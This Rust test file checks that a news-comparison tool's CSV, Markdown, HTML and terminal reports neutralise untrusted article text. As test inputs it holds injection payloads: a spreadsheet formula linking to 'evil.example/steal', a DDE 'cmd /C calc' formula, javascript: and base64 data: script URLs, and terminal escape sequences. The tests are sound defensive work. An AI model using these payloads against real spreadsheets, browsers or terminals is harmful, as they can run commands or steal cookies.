//! Untrusted article text in reports: spreadsheet formulas in CSV cells,
//! `javascript:` and `data:` URLs in Markdown and HTML links, escape
//! sequences in the terminal table.
mod common;

use crosscheck_align::{Alignment, FindingKind};
use crosscheck_report::sanitize::{render_with, CsvCells, RenderOptions};
use crosscheck_report::{render, Format, Report};

/// The writers' sample (ap and bbc differ on the troops), with the
/// quantity finding's claim texts, outlets, values and explanation
/// replaced by strings a spreadsheet or a terminal would run, and the
/// articles' URLs set.
fn sample(url_a: &str, url_b: &str) -> (Vec<crosscheck_parse::Extraction>, Alignment) {
    let (mut x, mut alignment) = common::sample();
    for e in &mut x {
        match e.article.id.as_str() {
            "ap" => e.article.url = Some(url_a.into()),
            "bbc" => e.article.url = Some(url_b.into()),
            _ => {}
        }
    }
    alignment
        .findings
        .retain(|f| f.kind == FindingKind::Quantity);
    let f = alignment
        .findings
        .first_mut()
        .expect("the troop counts differ");
    let hostile = [
        (
            "=HYPERLINK(\"http://evil.example/steal\",\"Click\")",
            "-Wire Service",
            "-40",
        ),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "+Daily", "\t45"),
    ];
    for (v, (text, source, value)) in f.variants.iter_mut().zip(hostile) {
        v.display = value.into();
        for m in &mut v.mentions {
            m.text = text.into();
            m.source = Some(source.into());
        }
    }
    f.explanation = "\u{1b}[31mThe counts differ.\u{1b}[0m".into();
    (x, alignment)
}

fn cells(csv: &str) -> Vec<csv::StringRecord> {
    csv::Reader::from_reader(csv.as_bytes())
        .records()
        .map(|r| r.unwrap())
        .collect()
}

#[test]
fn csv_cells_that_start_a_formula_are_neutralised_by_default() {
    let (x, a) = sample("https://example.com/wire", "https://example.com/daily");
    let report = Report::new(&x, &a);
    let csv = render(&report, Format::Csv).unwrap();
    let rows = cells(&csv);
    // one row per mention: the wire's and the daily's
    assert_eq!(rows.len(), 2, "{csv}");
    for cell in rows.iter().flat_map(|r| r.iter()) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "raw formula cell {cell:?} in {csv}"
        );
    }
    let all: Vec<&str> = rows.iter().flat_map(|r| r.iter()).collect();
    assert!(all.iter().any(|c| c.starts_with("'=HYPERLINK(")), "{all:?}");
    assert!(all.iter().any(|c| c.starts_with("'@SUM(1+1)")), "{all:?}");
    assert!(all.contains(&"'-40"), "{all:?}");
    assert!(all.contains(&"'\t45"), "{all:?}");
    assert!(all.contains(&"'-Wire Service") && all.contains(&"'+Daily"));
    // the finding id stays as it was: baselines keep matching
    assert!(rows[0][0].chars().all(|c| c.is_ascii_alphanumeric()));
}

#[test]
fn raw_csv_keeps_cells_as_extracted() {
    let (x, a) = sample("https://example.com/wire", "https://example.com/daily");
    let report = Report::new(&x, &a);
    let options = RenderOptions {
        csv_cells: CsvCells::Raw,
    };
    let raw = render_with(&report, Format::Csv, &options).unwrap();
    let rows = cells(&raw);
    let all: Vec<&str> = rows.iter().flat_map(|r| r.iter()).collect();
    assert!(all.iter().any(|c| c.starts_with("=HYPERLINK(")), "{all:?}");
    assert!(all.contains(&"-40"));
    // the default options are the neutralised CSV of `render`
    let default = render_with(&report, Format::Csv, &RenderOptions::default()).unwrap();
    assert_eq!(default, render(&report, Format::Csv).unwrap());
    assert_ne!(default, raw);
}

#[test]
fn only_http_urls_become_links_in_markdown_and_html() {
    let (x, a) = sample(
        "javascript:alert(document.cookie)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    );
    let report = Report::new(&x, &a);
    let md = render(&report, Format::Markdown).unwrap();
    assert!(!md.contains("](<javascript:"), "{md}");
    assert!(!md.contains("](<data:"), "{md}");
    let html = render(&report, Format::Html).unwrap();
    assert!(!html.contains("href=\"javascript:"), "{html}");
    assert!(!html.contains("href=\"data:"), "{html}");

    let (x, a) = sample("https://example.com/wire", "http://example.org/daily");
    let report = Report::new(&x, &a);
    let md = render(&report, Format::Markdown).unwrap();
    assert!(md.contains("](<https://example.com/wire#:~:text="), "{md}");
    assert!(md.contains("](<http://example.org/daily#:~:text="), "{md}");
}

#[test]
fn the_terminal_table_escapes_control_characters() {
    let (mut x, mut a) = sample("https://example.com/wire", "https://example.com/daily");
    let hostile = "ap\u{1b}]0;pwned\u{7}";
    for e in x.iter_mut().filter(|e| e.article.id == "ap") {
        e.article.id = hostile.into();
    }
    for v in &mut a.findings[0].variants {
        for m in &mut v.mentions {
            if m.article == "ap" {
                m.article = hostile.into();
            }
        }
    }
    // the story id, as the table prints it, carries the hostile id too
    a.findings[0].story = format!("story:{hostile}");
    a.findings[0].variants[0].display = "\u{1b}[31m40\u{1b}[0m".into();
    let report = Report::new(&x, &a);
    let table = render(&report, Format::Table).unwrap();
    assert!(
        !table.contains('\u{1b}') && !table.contains('\u{7}'),
        "{table:?}"
    );
    assert!(table.contains("\\x1b[31m40"), "{table}");
}

#[test]
fn neutralised_csv_reads_back_as_the_raw_values() {
    let (x, a) = sample("https://example.com/wire", "https://example.com/daily");
    let report = Report::new(&x, &a);
    let neutralised = render(&report, Format::Csv).unwrap();
    let raw = render_with(
        &report,
        Format::Csv,
        &RenderOptions {
            csv_cells: CsvCells::Raw,
        },
    )
    .unwrap();
    assert_ne!(neutralised, raw);
    let read = |csv: &str| crosscheck_report::csv_report::read_csv(csv.as_bytes()).unwrap();
    let rows = read(&neutralised);
    // the leading ' of the spreadsheet protection is gone on reading
    assert_eq!(rows, read(&raw));
    assert!(rows
        .iter()
        .any(|r| r.value == "-40" && r.source == "-Wire Service"));
    assert!(rows
        .iter()
        .any(|r| r.value == "\t45" && r.text.starts_with("@SUM")));
    // and a baseline made of it keeps the ids
    let baseline = crosscheck_report::Baseline::from_csv(neutralised.as_bytes()).unwrap();
    assert_eq!(baseline.len(), 1);
    assert!(baseline.entries.contains_key(&a.findings[0].id));
}
